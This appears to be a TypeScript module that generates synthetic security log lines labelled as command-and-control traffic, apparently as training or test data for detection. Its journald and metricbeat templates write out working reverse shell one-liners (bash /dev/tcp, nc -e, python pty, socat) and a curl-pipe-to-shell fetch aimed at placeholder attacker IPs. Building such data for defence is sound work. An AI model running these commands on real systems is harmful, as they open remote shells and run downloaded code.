/**
 * Gap templates: outbound command-and-control flows.
 *
 * @module
 */
import type { Template } from "../types.ts";
import { syslog } from "../format.ts";
import { anyHost, evilIp, evilPort, hostLanIp, SERVICE_USERS } from "./host_common.ts";
import { ephemeral } from "./network_common.ts";
import { kernelLine } from "./network_fw.ts";
import { C2_PORTS, filterlog, gapsPid, journal, outPkt, tpl, ts, zconn } from "./gaps_common.ts";

/** Gap templates: outbound command-and-control flows. */
export const TEMPLATES: Template[] = [
  tpl(
    "iptables",
    "command_and_control",
    1.2,
    (c) =>
      kernelLine(
        c,
        c.rng.pick(["[UFW ALLOW] ", "[UFW BLOCK] ", "OUT-ACCEPT: ", "FW-OUT ", ""]),
        outPkt(c, evilIp(c), c.rng.pick(C2_PORTS)),
      ),
  ),
  tpl(
    "pf_filterlog",
    "command_and_control",
    0.8,
    (c) => filterlog(c, evilIp(c), c.rng.pick(C2_PORTS), c.rng.pick(["pass", "block"])),
  ),
  tpl(
    "zeek_conn",
    "command_and_control",
    1,
    (c) =>
      zconn(
        c,
        evilIp(c),
        c.rng.pick([4444, 1337, 31337, 5555]),
        c.rng.int(1800, 90000) + c.rng.next(),
        c.rng.int(20000, 900000),
        c.rng.int(20000, 3000000),
      ),
  ),
  tpl("zeek_http", "command_and_control", 1, (c) => {
    const ip = evilIp(c),
      uri = c.rng.pick([
        "/x86_64",
        "/bins/arm7",
        "/bins/mips",
        "/payload.sh",
        "/x.sh",
        "/lol.sh",
        "/.s/kworker",
        "/i686",
      ]);
    const ua = c.rng.pick(["curl/7.68.0", "Wget/1.20.3 (linux-gnu)", "Wget", "curl/8.5.0"]);
    const mime = uri.endsWith(".sh") ? "text/x-shellscript" : "application/x-executable";
    const f = [
      ts(c),
      "C" + c.rng.alnum(17),
      hostLanIp(c),
      ephemeral(c.rng),
      ip,
      80,
      1,
      "GET",
      ip,
      uri,
      "-",
      "1.1",
      ua,
      "-",
      0,
      c.rng.int(300, 900000),
      200,
      "OK",
      "-",
      "-",
      "(empty)",
      "-",
      "-",
      "-",
      "-",
      "-",
      "-",
      "F" + c.rng.alnum(17),
      "-",
      mime,
    ];
    return c.rng.chance(0.4)
      ? JSON.stringify({
        ts: Number(f[0]),
        uid: f[1],
        "id.orig_h": f[2],
        "id.orig_p": f[3],
        "id.resp_h": ip,
        "id.resp_p": 80,
        trans_depth: 1,
        method: "GET",
        host: ip,
        uri,
        version: "1.1",
        user_agent: ua,
        request_body_len: 0,
        response_body_len: f[15],
        status_code: 200,
        status_msg: "OK",
        resp_mime_types: [mime],
      })
      : f.join("\t");
  }),
  tpl("journald_json", "command_and_control", 1, (c) => {
    const ip = evilIp(c), p = evilPort(c);
    const cmd = c.rng.pick([
      `sh -i >& /dev/tcp/${ip}/${p} 0>&1`,
      `/bin/bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'`,
      `nc -e /bin/sh ${ip} ${p}`,
      `curl -s http://${ip}/x.sh | sh`,
    ]);
    const u = c.rng.pick(["root", "www-data", ...c.sc.users.slice(0, 2)]);
    return c.rng.chance(0.5)
      ? journal(c, anyHost(c), "CRON", gapsPid(c), `(${u}) CMD (${cmd})`, 6, { _COMM: "cron" })
      : syslog(c, anyHost(c), "CRON", gapsPid(c), `(${u}) CMD (${cmd})`, "cron");
  }),
  tpl("metricbeat", "command_and_control", 0.8, (c) => {
    const ip = evilIp(c), p = String(evilPort(c));
    const args = c.rng.pick([["nc", "-e", "/bin/sh", ip, p], [
      "bash",
      "-c",
      `bash -i >& /dev/tcp/${ip}/${p} 0>&1`,
    ], [
      "python3",
      "-c",
      `import socket,os,pty;s=socket.socket();s.connect(("${ip}",${p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`,
    ], ["socat", `tcp:${ip}:${p}`, "exec:/bin/bash,pty,stderr"]]);
    return JSON.stringify({
      "@timestamp": c.now.toISOString(),
      event: { module: "system", dataset: "system.process" },
      metricset: { name: "process", period: 10000 },
      host: { name: anyHost(c) },
      process: {
        pid: gapsPid(c),
        name: args[0],
        args,
        command_line: args.join(" "),
        state: "sleeping",
      },
      user: { name: c.rng.pick(SERVICE_USERS)[0] },
    });
  }),
];
